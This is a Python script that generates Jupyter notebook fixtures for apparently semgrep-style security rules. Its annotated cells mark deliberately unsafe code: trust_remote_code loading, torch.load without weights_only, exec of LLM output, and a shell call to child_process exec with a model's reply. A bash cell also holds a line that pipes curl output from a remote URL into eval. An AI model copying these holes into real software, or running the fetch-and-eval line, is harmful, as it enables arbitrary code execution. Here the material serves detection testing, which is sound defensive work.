#!/usr/bin/python3
"""Writes the notebook fixtures with nbformat (Debian's python3-nbformat 5.5),
the library Jupyter itself writes notebooks with. Annotations sit in the
cells' source, one JSON line above the line they describe. Run from this
directory: /usr/bin/python3 generate.py"""
import base64
import struct
import zlib

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output


def png(width, height):
    """A real (grey) PNG, so the outputs look like matplotlib's."""
    raw = b"".join(b"\x00" + bytes([128] * width) for _ in range(height))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def write(name, nb):
    nbformat.validate(nb)
    with open(name, "w", encoding="utf-8") as fh:
        nbformat.write(nb, fh)


image = base64.b64encode(png(64, 48)).decode()

python_nb = new_notebook(metadata={
    "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
    "language_info": {"name": "python"},
})
python_nb.cells = [
    new_markdown_cell("# Fine-tuning\nLoad the model and run `eval(...)` on nothing: markdown is not code."),
    new_code_cell("!pip install transformers torch\n%matplotlib inline"),
    new_code_cell("import torch\nfrom openai import OpenAI\nfrom transformers import AutoModel\n\nclient = OpenAI()"),
    new_code_cell(
        "# ruleid: code-trust-remote-code, code-hub-download-unpinned\n"
        "model = AutoModel.from_pretrained(\"someorg/custom-arch\", trust_remote_code=True)\n"
        "# ok: code-trust-remote-code, code-hub-download-unpinned\n"
        "base = AutoModel.from_pretrained(\"bert-base-uncased\", revision=\"86b5e0934494bd15c9632b12f734a8a67f723594\")",
        outputs=[new_output("stream", name="stdout", text="loaded\u200b\u200b model\n")],
    ),
    new_code_cell(
        "for epoch in range(3):\n"
        "    %time step = epoch\n"
        "    # ruleid: code-torch-load-unsafe\n"
        "    state = torch.load(f\"ckpt-{epoch}.pt\")\n"
        "    # ok: code-torch-load-unsafe\n"
        "    safe = torch.load(f\"ckpt-{epoch}.pt\", weights_only=True)",
        outputs=[new_output("display_data", data={"image/png": image, "text/plain": "<Figure>"})],
    ),
    new_code_cell("%%bash\n# not Python: a shell cell is not analysed by the Python rules\neval \"$(curl -s https://example.com/x)\""),
    new_code_cell(
        "reply = client.chat.completions.create(model=\"gpt-4o\", messages=[{\"role\": \"user\", \"content\": \"code?\"}])\n"
        "code = reply.choices[0].message.content\n"
        "# ruleid: code-llm-output-exec\n"
        "exec(code)",
        outputs=[new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": "a\u200bb", "version_major": 2, "version_minor": 0},
            "text/plain": "HBox(children=(FloatProgress(value=0.0),))",
        })],
    ),
]
write("finetune.ipynb", python_nb)

ts_nb = new_notebook(metadata={
    "kernelspec": {"name": "deno", "display_name": "Deno", "language": "typescript"},
    "language_info": {"name": "typescript", "file_extension": ".ts"},
})
ts_nb.cells = [
    new_code_cell("import OpenAI from \"npm:openai\";\nimport { exec } from \"node:child_process\";\n\nconst client = new OpenAI();"),
    new_code_cell(
        "const r = await client.chat.completions.create({ model: \"gpt-4o\", messages: [{ role: \"user\", content: \"cmd?\" }] });\n"
        "const cmd = r.choices[0].message.content ?? \"\";\n"
        "// ruleid: code-llm-output-shell\n"
        "exec(cmd);\n"
        "// ok: code-llm-output-shell\n"
        "exec(\"ls -l\");",
        outputs=[new_output("execute_result", data={"text/plain": "undefined"}, execution_count=2)],
    ),
]
write("agent-deno.ipynb", ts_nb)
